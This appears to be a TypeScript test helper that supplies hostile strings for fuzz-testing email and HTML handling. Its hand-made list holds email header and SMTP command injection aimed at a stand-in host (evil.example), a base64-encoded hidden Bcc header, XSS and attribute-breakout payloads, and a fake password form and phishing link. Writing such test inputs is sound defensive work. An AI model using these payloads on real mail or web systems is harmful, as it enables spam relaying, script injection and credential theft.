import fc from 'fast-check';
import { naughtyStrings } from '../naughty-strings/naughty-strings.ts';

const MADE: readonly string[] = [
  'Maria\r\nBcc: eve@evil.example',
  'Maria\nContent-Type: text/html\n\n<script>alert(1)</script>',
  'Maria\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA\r\n',
  '</p><a href="https://evil.example">Click</a>',
  '</td></tr></table><form action="https://evil.example"><input name="password">',
  `" onmouseover="alert(1)" x="`,
  '<img src=x onerror=alert(1)>',
  '<!-- --><style>body{display:none}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'https://evil.example/log-in',
  'eve@evil.example, <more@evil.example>',
  '=?utf-8?B?TWFyaWENCkJjYzogZXZlQGV2aWwuZXhhbXBsZQ==?=',
];

/** Names and notes as somebody would write them who means harm: those made for mails, the known ones, random ones. */
export const hostileTexts = (count: number): readonly string[] =>
  [...MADE, ...naughtyStrings, ...fc.sample(fc.string({ unit: 'binary', maxLength: 100 }), count)].slice(
    0,
    count,
  );
